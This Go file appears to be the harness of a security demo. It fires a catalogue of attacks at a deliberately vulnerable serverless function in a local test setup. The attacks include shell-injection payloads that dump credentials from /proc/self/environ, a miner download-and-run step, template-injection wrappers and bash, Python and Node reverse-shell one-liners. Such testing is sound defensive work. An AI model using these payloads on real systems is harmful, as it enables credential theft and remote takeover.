package demo

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"time"
)

// Attack is one thing that an attacker does to the function through its public interface.
type Attack struct {
	Name  string
	Wants string // what the attacker is after
	Loot  string // what is gained when it works, in a word or two

	shell    string // the document's address, with a shell command in it; or
	inside   bool   // code for the evaluated template, assets/<runtime>/<name>
	about    bool   // or no injection at all: the helper is asked for
	proof    string // what shows that it worked, in the response or in what arrived at the attacker's server
	arrives  bool   // the proof arrives there rather than in the response
	curlOnly bool   // uses an option that only curl has
	quietly  string // the rule that takes the loot away without refusing anything, so that no event names it
}

// Secret is the function's secret access key while the demo runs: what the attackers are after.
const Secret = "wJalrThimble/DEMO/bPxRfiCYkeyEXAMPLE"

// SessionToken is the rest of the function's credentials.
const SessionToken = "IQoJThimbleDemoSessionToken"

// Credentials are the variables that the demo gives the function.
func Credentials() map[string]string {
	return map[string]string{
		"AWS_ACCESS_KEY_ID":     "ASIATHIMBLEDEMOEXAMP",
		"AWS_SECRET_ACCESS_KEY": Secret,
		"AWS_SESSION_TOKEN":     SessionToken,
	}
}

// The proofs are computed by the attackers' code (6*7), so that an error message which quotes the attack proves nothing.
const (
	programText = "native-code-42\n"
	libraryText = "library-code-42\n"
	sourceText  = "Do not deploy it."
)

// Attacks lists them all, those through the shell first.
var Attacks = []Attack{
	{Name: "environment-dump", Wants: "the credentials in the environment", Loot: "secret key",
		shell: "@DOCUMENT@; env #", proof: Secret},
	{Name: "source-read", Wants: "the function's source", Loot: "source code",
		shell: "@DOCUMENT@; cat @SOURCE@ #", proof: sourceText},
	{Name: "reverse-shell", Wants: "an interactive shell", Loot: "shell",
		shell: "@DOCUMENT@; @SHELL@ #", proof: "shell-42", arrives: true},
	{Name: "dropped-miner", Wants: "a miner downloaded and run", Loot: "miner ran",
		shell: "@DOCUMENT@; @GET@ @SITE@/xmrig >/tmp/xmrig; chmod +x /tmp/xmrig; /tmp/xmrig #", proof: programText},
	{Name: "encoded-payload", Wants: "a command that no filter reads", Loot: "command ran",
		shell: "@DOCUMENT@; echo ZWNobyBkZWNvZGVkLSQoKDYqNykpCg== | base64 -d | sh #", proof: "decoded-42"},
	{Name: "command-substitution", Wants: "a command's output in the address", Loot: "command ran",
		shell: "@SITE@/loot?$(echo substituted-$((6*7)))", proof: "substituted-42", arrives: true},
	{Name: "newline", Wants: "a second command line", Loot: "command ran",
		shell: "@DOCUMENT@\necho line-$((6*7)) #", proof: "line-42"},
	{Name: "variable-in-address", Wants: "the credentials, without any metacharacter but $", Loot: "secret key",
		shell: "@SITE@/loot?$AWS_SECRET_ACCESS_KEY", proof: Secret, arrives: true},
	{Name: "option-smuggling", Wants: "the environment, uploaded by the function's own downloader", Loot: "secret key",
		shell: "@SITE@/loot --data-binary @/proc/self/environ", proof: Secret, arrives: true, curlOnly: true},
	{Name: "file-address", Wants: "the environment, as a local document", Loot: "secret key",
		shell: "file:///proc/self/environ", proof: Secret, curlOnly: true},
	{Name: "child-environ", Wants: "the function's environment, read by a child", Loot: "secret key",
		shell: "@DOCUMENT@; cat /proc/$PPID/environ | tr '\\000' '\\n' #", proof: Secret},
	{Name: "careless-helper", Wants: "the credentials that every child inherits", Loot: "secret key",
		about: true, proof: Secret, quietly: "credentials.children"},

	{Name: "environ", Wants: "the environment as it was at the start", Loot: "secret key", inside: true, proof: Secret},
	{Name: "environ-detour", Wants: "the same, by a path that no filter expects", Loot: "secret key", inside: true,
		proof: Secret},
	{Name: "one-liner", Wants: "an interpreter with code of the attacker's", Loot: "code ran", inside: true,
		proof: "one-liner-42"},
	{Name: "native-spawn", Wants: "a shell, below the hooks of in-process firewalls", Loot: "command ran", inside: true,
		proof: "spawned-42"},
	{Name: "load-library", Wants: "native code in the process", Loot: "native code ran", inside: true, proof: libraryText},
	{Name: "preload", Wants: "native code in the function's own commands", Loot: "native code ran", inside: true,
		proof: libraryText},
	{Name: "fileless", Wants: "a program run from memory", Loot: "native code ran", inside: true, proof: programText},
	{Name: "loader", Wants: "a dropped program run through the dynamic loader", Loot: "program ran", inside: true,
		proof: "loaded-42"},
	{Name: "dropped-program", Wants: "a dropped program run", Loot: "program ran", inside: true, proof: programText},
	{Name: "renamed-miner", Wants: "a miner under a harmless name", Loot: "miner ran", inside: true, proof: programText},
	{Name: "offensive-tool", Wants: "a tunnel tool", Loot: "tool ran", inside: true, proof: programText},
	{Name: "symlink", Wants: "a forbidden program under another name", Loot: "code ran", inside: true, proof: "linked-42"},
	{Name: "dropped-script", Wants: "a script run by the allowed shell", Loot: "command ran", inside: true,
		proof: "script-42"},
	{Name: "path-hijack", Wants: "another program in place of the downloader", Loot: "program ran", inside: true,
		proof: programText},
}

// arsenal builds the events of one run and the files that the attacker serves.
type arsenal struct {
	host  Host
	world *World

	program, miner, library string // base64
}

// minerMark is a content signature of a miner: what a packed xmrig cannot do without saying.
const minerMark = "control donate over xmrig-proxy feature\x00--cpu-max-threads-hint=N\x00"

// newArsenal starts the world that the attacks need; the caller closes it.
func newArsenal(host Host) (*arsenal, error) {
	program, err := buildProgram(programText, nil)
	if err != nil {
		return nil, err
	}
	miner, err := buildProgram(programText, []byte(minerMark))
	if err != nil {
		return nil, err
	}
	library, err := buildLibrary("/tmp/library-ran", libraryText)
	if err != nil {
		return nil, err
	}
	world, err := NewWorld(map[string][]byte{"/xmrig": miner})
	if err != nil {
		return nil, err
	}
	encode := base64.StdEncoding.EncodeToString
	return &arsenal{host: host, world: world, program: encode(program), miner: encode(miner), library: encode(library)}, nil
}

// fits says whether the attack exists on this host.
func (a Attack) fits(host Host) bool {
	return !a.curlOnly || host.fetcherName() == "curl"
}

// event is the attack as the function receives it.
func (s *arsenal) event(a Attack) ([]byte, error) {
	query := map[string]string{}
	switch {
	case a.about:
		query["about"] = "1"
	case a.inside:
		template, err := s.template(a.Name)
		if err != nil {
			return nil, err
		}
		query["document_url"], query["template"] = s.document(), template
	default:
		query["document_url"] = s.fill(a.shell)
	}
	return requestEvent(query)
}

// requestEvent is the event that an HTTP request to the function makes.
func requestEvent(query map[string]string) ([]byte, error) {
	event, err := json.Marshal(map[string]any{
		"httpMethod": "GET", "path": "/api/convert", "queryStringParameters": query,
	})
	if err != nil {
		return nil, fmt.Errorf("write event: %w", err)
	}
	return event, nil
}

// template wraps the attacker's code in what the function's evaluation expects.
func (s *arsenal) template(name string) (string, error) {
	if s.host.Runtime == "python" {
		code, err := s.host.asset("python/" + name + ".py")
		if err != nil {
			return "", err
		}
		encoded := base64.StdEncoding.EncodeToString([]byte(s.fill(code)))
		return `{(scope := {}, exec(__import__("base64").b64decode("` + encoded + `"), scope), scope["out"])[2]}`, nil
	}
	code, err := s.host.asset("node/" + name + ".js")
	if err != nil {
		return "", err
	}
	return "${(() => {\n" + s.fill(code) + "})()}", nil
}

func (s *arsenal) document() string { return s.world.Documents + "/report.doc" }

func (s *arsenal) fill(text string) string {
	port := fmt.Sprint(s.world.ShellPort)
	return strings.NewReplacer(
		"@DOCUMENT@", s.document(),
		"@SITE@", s.world.Documents,
		"@SOURCE@", s.host.source(),
		"@SHELL@", s.reverseShell(),
		"@GET@", s.host.Fetch,
		"@PORT@", port,
		"@PROGRAM@", s.program,
		"@MINER@", s.miner,
		"@LIBRARY@", s.library,
	).Replace(text)
}

// reverseShell connects a shell to the listener by whatever can: bash, or else the function's own interpreter.
func (s *arsenal) reverseShell() string {
	port := s.world.ShellPort
	if s.host.Bash {
		return fmt.Sprintf("bash -c 'exec sh <>/dev/tcp/127.0.0.1/%d >&0'", port)
	}
	if s.host.Runtime == "python" {
		return fmt.Sprintf(`%s -c 'import os,socket;s=socket.create_connection(("127.0.0.1",%d));`+
			`[os.dup2(s.fileno(),n) for n in (0,1)];os.execv("/bin/sh",["sh"])'`, s.host.Interpreter, port)
	}
	return fmt.Sprintf(`%s -e 's=require("net").connect(%d,"127.0.0.1");c=require("child_process").spawn("sh");`+
		`s.pipe(c.stdin);c.stdout.pipe(s)'`, s.host.Interpreter, port)
}

// succeeded decides whether the attacker got what the attack is for.
func (s *arsenal) succeeded(a Attack, body string) bool {
	if a.arrives {
		patience := 0 * time.Second
		if a.Name == "reverse-shell" {
			patience = 300 * time.Millisecond
		}
		return s.world.WaitLoot(a.proof, patience)
	}
	return strings.Contains(body, strings.TrimSpace(a.proof))
}
